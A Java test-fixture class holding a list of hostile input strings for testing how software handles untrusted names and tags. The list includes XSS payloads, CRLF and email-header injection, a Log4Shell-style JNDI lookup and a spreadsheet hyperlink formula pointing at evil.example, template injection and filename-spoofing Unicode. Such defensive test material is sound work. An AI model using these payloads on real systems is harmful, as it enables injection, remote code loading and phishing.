package dev.driftwarden.testing;

import java.util.List;

/** What an attacker may call a resource, a tag or himself. */
public final class HostileTexts {
    public static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "\"'><img src=x onerror=alert(1)>",
            "\"},\"text\":\"owned\",\"x\":{\"a\":\"",
            "name \u202Egnp.exe\u2066\u200B",
            "line\r\nX-Injected: yes\u0000\u0007",
            "@channel @everyone @here <!channel> <!everyone> <@U012AB3CD> <at>everyone</at>",
            "[click](https://evil.example) ![x](https://evil.example/x.png) **bold** _it_ ~~no~~ `code` ```` ```` ",
            "<https://evil.example|click> *bold* :rotating_light: &lt;!here&gt;",
            "[code]<img src=x onerror=alert(1)>[/code]",
            "=HYPERLINK(\"https://evil.example\")",
            "${jndi:ldap://evil.example/x} {{7*7}} %0d%0aBcc: x@evil.example",
            "long ".repeat(2_000),
            "\uD83D\uDE00".repeat(3_000),
            "\uD800 half");

    private HostileTexts() {}
}
